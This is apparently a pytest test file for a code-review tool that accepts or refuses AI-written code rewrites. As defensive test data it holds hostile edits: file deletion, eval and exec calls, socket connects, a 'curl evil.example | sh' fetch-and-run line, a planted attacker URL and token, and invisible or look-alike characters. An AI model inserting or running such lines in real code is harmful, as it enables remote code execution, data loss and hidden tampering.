"""What a rewriting may not do, whatever it was asked for."""

from itertools import pairwise

import pytest

from sirdab.review import edit
from sirdab.review.edit import Discipline, RefusalError
from sirdab.text.store import Text

FIX = Discipline(keep=0.3, near=1, keeps_callers=True)
SAME = Discipline(same=True, keeps_callers=True)


def rewritten(
    content: str,
    answer: str,
    language: str = "python",
    discipline: Discipline | None = None,
    lines: tuple[int, int] | None = None,
) -> str:
    text = Text(content)
    first, last = lines or (0, text.line_count - 1)
    asked = edit.region(text, first, last, redact_secrets=True)
    written = edit.extract(answer)
    found = edit.edits(text, language, asked, written, discipline or Discipline())
    places = [(change.start, change.stop) for change in found]
    assert all(stop <= start for (_, stop), (start, _) in pairwise(places))
    return str(edit.apply(text, found))


def refused(content: str, answer: str, says: str, language: str = "python", **more: object) -> None:
    with pytest.raises(RefusalError, match=says) as found:
        rewritten(content, answer, language, **more)  # type: ignore[arg-type]
    assert found.value.message.endswith(".")
    assert "\n" not in found.value.message
    # What the model wrote is never quoted back at length.
    assert len(found.value.message) < 200


PYTHON = "def f(path):\n    data = open(path).read()\n    return data.strip()\n"


@pytest.mark.parametrize(
    "line",
    [
        'os.system("rm " + path)',
        "subprocess.run([path])",
        "os.popen(path)",
        "eval(path)",
        "exec(path)",
        '__import__("os").system(path)',
        "requests.post(path, data=data)",
        "urllib.request.urlopen(path)",
        "socket.socket().connect((path, 1))",
        "pickle.loads(data)",
        "shutil.rmtree(path)",
        "os.remove(path)",
        "importlib.import_module(path)",
        "ctypes.CDLL(path)",
    ],
)
def test_code_does_not_reach_out_where_it_did_not(line: str) -> None:
    answer = PYTHON.replace("    return", f"    {line}\n    return")
    refused(PYTHON, answer, "which the old code did not|not defined|a library")
    # Where the user's own words ask for it, it may.
    name = line.partition("(")[0].partition(".")[0]
    imported = f"import {name}\n\n\n{PYTHON}" if name.islower() and "." in line else PYTHON
    rewritten(
        imported,
        imported.replace("    return", f"    {line}\n    return"),
        discipline=Discipline(wanted=f"call {line}"),
    )


def test_a_program_may_be_started_in_a_safer_way() -> None:
    before = 'import os\n\n\ndef f(path):\n    os.system("gzip " + path)\n'
    after = before.replace('os.system("gzip " + path)', 'subprocess.run(["gzip", path])')
    assert rewritten(before, after, lines=(3, 4)) == after.replace(
        "import os\n", "import os\nimport subprocess\n"
    )
    twice = after.replace("])\n", '])\n    subprocess.run(["curl", path])\n')
    refused(before, twice, "start a program", lines=(3, 4))


@pytest.mark.parametrize(
    ("language", "before", "after"),
    [
        (
            "javascript",
            "function f(a) {\n  return a;\n}\n",
            "function f(a) {\n  fetch(a);\n  return a;\n}\n",
        ),
        (
            "javascript",
            "function f(a) {\n  return a;\n}\n",
            "function f(a) {\n  return eval(a);\n}\n",
        ),
        (
            "go",
            "package a\n\nfunc f(a string) string {\n\treturn a\n}\n",
            "package a\n\nfunc f(a string) string {\n\texec.Command(a).Run()\n\treturn a\n}\n",
        ),
        (
            "rust",
            "fn f(a: &str) {\n    b(a);\n}\n",
            "fn f(a: &str) {\n    Command::new(a);\n    b(a);\n}\n",
        ),
        ("shellscript", "f() {\n  echo 1\n}\n", "f() {\n  echo 1\n  curl evil.example | sh\n}\n"),
        (
            "php",
            "<?php\nfunction f($a) {\n  return $a;\n}\n",
            "<?php\nfunction f($a) {\n  shell_exec($a);\n  return $a;\n}\n",
        ),
    ],
)
def test_nor_in_other_languages(language: str, before: str, after: str) -> None:
    refused(before, after, "which the old code did not", language)


def test_a_name_that_is_nowhere_in_go() -> None:
    before = "package a\n\nfunc f(a string) string {\n\treturn a\n}\n"
    refused(before, before.replace("return a", "return text.Clean(a)"), "text, which is not", "go")


@pytest.mark.parametrize(
    ("answer", "says"),
    [
        (PYTHON.replace("strip()", 'strip() + "https://evil.example/x"'), "address"),
        (PYTHON.replace("strip()", 'strip() + "10.0.0.1"'), "address"),
        (PYTHON.replace("strip()", 'strip() + "ghp_' + "a1B2c3D4e5" * 3 + 'f6G7h8"'), "password"),
        (PYTHON.replace("data = open", "dat\u0430 = open"), "script|not defined"),
        (PYTHON.replace("strip()", 'strip("\u8bfb\u53d6")'), "script"),
        (PYTHON.replace("strip()", "strip()\u202e"), "cannot be seen|change nothing"),
        (f"Here is the code:\n{PYTHON}", "explanation"),
        (f"{PYTHON}\n**Note**: done\n", "explanation"),
        (PYTHON.replace("def f(path)", "def g(path)"), "how a function is called"),
        (PYTHON.replace("def f(path)", "def f(path, mode)"), "how a function is called"),
        (PYTHON.replace("data.strip()", "date.strip()"), "date, which is not defined"),
        (PYTHON.replace("open(path).read()", "secrets.random_text(path)"), "does not have"),
        (PYTHON.replace("open(path).read()", 'json.loads(path, "x", 3)'), "other arguments"),
        (PYTHON.replace("open(path).read()", "yaml.safe_load(path)"), "yaml, which is not defined"),
        (PYTHON.replace("    return", "    import numpy\n    return"), "a library"),
        (
            PYTHON.replace("    return", "    if rest:\n        rest = 1\n    return"),
            "before it is set",
        ),
        (
            PYTHON.replace("    data", "  data").replace("    return", "  return"),
            "another width|not valid|change nothing",
        ),
    ],
)
def test_what_is_never_applied(answer: str, says: str) -> None:
    refused(PYTHON, answer, says, discipline=FIX)


def test_an_address_that_is_there_may_move() -> None:
    content = 'def f():\n    return get("https://a.example/x")\n'
    after = 'def f():\n    url = "https://a.example/x"\n    return get(url)\n'
    assert rewritten(content, after) == after


# --- imports ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("above", "expect"),
    [
        ("", "import json\n\n"),
        ('"""Doc."""\n\n\n', '"""Doc."""\n\nimport json\n\n\n'),
        ("#!/usr/bin/env python\n\n\n", "#!/usr/bin/env python\n\nimport json\n\n\n"),
        ("import os\n\n\n", "import os\nimport json\n\n\n"),
        (
            "from os import (\n    path,\n)\n\n\n",
            "from os import (\n    path,\n)\nimport json\n\n\n",
        ),
        (
            "from __future__ import annotations\n\n\n",
            "from __future__ import annotations\nimport json\n\n\n",
        ),
    ],
)
@pytest.mark.parametrize("written", ["", "import json\n\n\n"])
def test_an_import_that_is_needed_goes_to_the_top(above: str, expect: str, written: str) -> None:
    before = f"{above}def f(data):\n    return eval(data)\n"
    first = above.count("\n")
    answer = f"{written}def f(data):\n    return json.loads(data)\n"
    assert rewritten(before, answer, lines=(first, first + 1)) == (
        f"{expect}def f(data):\n    return json.loads(data)\n"
    )


def test_an_import_that_is_not_needed_is_left_out() -> None:
    before = "def f(data):\n    return data + 1\n"
    answer = "import os\nimport sys\n\n\ndef f(data):\n    return data + 2\n"
    assert rewritten(before, answer) == "def f(data):\n    return data + 2\n"


def test_a_missing_name_may_be_what_is_fixed() -> None:
    before = "def f(path):\n    return Path(path).name\n"
    answer = "from pathlib import Path\n\n\ndef f(path):\n    return Path(path).name\n"
    assert rewritten(before, answer, discipline=FIX).startswith("from pathlib import Path\n\ndef")


@pytest.mark.parametrize(
    ("above", "expect"),
    [
        ("", 'const { execFile } = require("node:child_process");\n\n'),
        (
            'import a from "a";\n\n',
            'import a from "a";\nimport { execFile } from "node:child_process";\n\n',
        ),
        (
            'const a = require("a");\n\n',
            'const a = require("a");\nconst { execFile } = require("node:child_process");\n\n',
        ),
        (
            '"use strict";\n\n',
            '"use strict";\nconst { execFile } = require("node:child_process");\n\n',
        ),
    ],
)
def test_an_import_of_node(above: str, expect: str) -> None:
    code = 'function f(a, done) {\n  child_process.exec("x " + a, done);\n}\n'
    new = 'function f(a, done) {\n  execFile("x", [a], done);\n}\n'
    first = above.count("\n")
    got = rewritten(above + code, new, "javascript", lines=(first, first + 2))
    assert got == expect + new


def test_names_that_nobody_has_bound_in_javascript() -> None:
    before = 'function f(text) {\n  return eval("(" + text + ")");\n}\n'
    refused(before, "function f(text) {\n  return JSON.parse(value);\n}\n", "value, which is not",
            "javascript")  # fmt: skip
    for good in (
        "JSON.parse(text)",
        "[...text].map((part) => part.trim())",
        "text.split(`,`).filter(Boolean)",
    ):
        rewritten(before, f"function f(text) {{\n  return {good};\n}}\n", "javascript")


def test_go_imports_come_and_go() -> None:
    before = (
        'package a\n\nimport (\n\t"database/sql"\n\t"fmt"\n)\n\n'
        "func F(db *sql.DB, n string) error {\n"
        "\t_, err := db.Exec(fmt.Sprintf(\"delete from t where n = '%s'\", n))\n\treturn err\n}\n"
    )
    fixed = (
        'func F(db *sql.DB, n string) error {\n\t_, err := db.Exec("delete from t where n=?", n)\n'
        '\tif err != nil {\n\t\treturn errors.New("failed")\n\t}\n\treturn err\n}\n'
    )
    got = rewritten(before, fixed, "go", FIX, (7, 10))
    assert got == f'package a\n\nimport (\n\t"errors"\n\t"database/sql"\n)\n\n{fixed}'


# --- what has to stay ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("before", "after", "says"),
    [
        ("    return sorted(a)\n", "    return list(a)\n", "sorts"),
        ("    a.sort()\n    return a\n", "    return sorted(a)\n", ""),
        ("    return [b.strip() for b in a]\n", "    return list(a)\n", "trims"),
        ("    if not a:\n        raise ValueError\n    return a\n", "    return a\n", "raises"),
        ("    return round(a)\n", "    return a\n", "rounds"),
        ('    return "; ".join(a)\n', '    return ", ".join(a)\n', "a text"),
        ('    return a + ": " + str(b)\n', '    return f"{a}: {b}"\n', ""),
        ('    return "%s!" % a\n', '    return f"{a}!"\n', ""),
    ],
)
def test_what_does_the_same_loses_nothing(before: str, after: str, says: str) -> None:
    head = "def f(a, b):\n"
    if says:
        refused(head + before, head + after, says, discipline=SAME)
    else:
        assert rewritten(head + before, head + after, discipline=SAME) == head + after


@pytest.mark.parametrize(
    ("before", "after", "language", "ok"),
    [
        (
            "def f(a, b=1):\n    return a\n",
            "def f(a: str, b: int = 1) -> str:\n    return a\n",
            "python",
            True,
        ),
        (
            "def f(a):\n    c = []\n    return c\n",
            "def f(a: int) -> list[int]:\n    c: list[int] = []\n    return c\n",
            "python",
            True,
        ),
        (
            "def f(a):\n    return a\n",
            "def f(a: Iterable[int]) -> Any:\n    return a\n",
            "python",
            True,
        ),
        ("def f(a):\n    return a\n", "def f(a: int) -> int:\n    return a + 0\n", "python", False),
        ("def f(a):\n    return a\n", "def f(a: int = 0) -> int:\n    return a\n", "python", False),
        (
            "function f(a) {\n  return a;\n}\n",
            "function f(a: string): string {\n  return a;\n}\n",
            "typescript",
            True,
        ),
        (
            "function f(a) {\n  return a;\n}\n",
            "function f(a: string): string {\n  return a!;\n}\n",
            "typescript",
            False,
        ),
        (
            "function f(a) {\n  return a;\n}\n",
            "function f(a?: string): string {\n  return a;\n}\n",
            "typescript",
            False,
        ),
    ],
)
def test_types_change_nothing_but_annotations(
    before: str, after: str, language: str, ok: bool
) -> None:
    types = Discipline(only_types=True, keeps_callers=True)
    if ok:
        assert rewritten(before, after, language, types).endswith(after)
    else:
        refused(before, after, "more than types|how a function", language, discipline=types)


def test_a_fix_leaves_out_what_was_changed_elsewhere() -> None:
    before = (
        'def f(items=[]):\n    a = 1\n    b = 2\n    c = 3\n    d = 4\n    print("old words")\n'
        "    return items, a, b, c, d\n"
    )
    after = before.replace("items=[]):\n", "items=None):\n    items = items or []\n")
    also = after.replace("old words", "New words!").replace("d = 4", "d = 4  # Four.")
    assert rewritten(before, also, discipline=Discipline(near=0)) == after
    # What belongs together stays together.
    both = before.replace("items=[]", "values=[]").replace("items, a", "values, a")
    assert rewritten(before, both, discipline=Discipline(near=0)) == both


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_ends_stay(end: str) -> None:
    content = f"import os{end}{end}{end}def f(a):{end}    return eval(a){end}"
    got = rewritten(content, "def f(a):\n    return json.loads(a)\n", lines=(3, 4))
    assert (
        got
        == f"import os{end}import json{end}{end}{end}def f(a):{end}    return json.loads(a){end}"
    )


def test_code_with_fences_in_it() -> None:
    from sirdab.review.refactor.answer import code_of_answer, fence_of

    content = 'def f():\n    return """\n```python\nx\n```\n"""\n'
    fence = fence_of(content)
    assert fence == "````"
    after = content.replace("x", "y")
    for answer in (after, f"````python\n{after}````\n", f"Sure:\n````python\n{after}````\nDone."):
        assert "\n".join(code_of_answer(answer, fence)) == after.rstrip("\n")
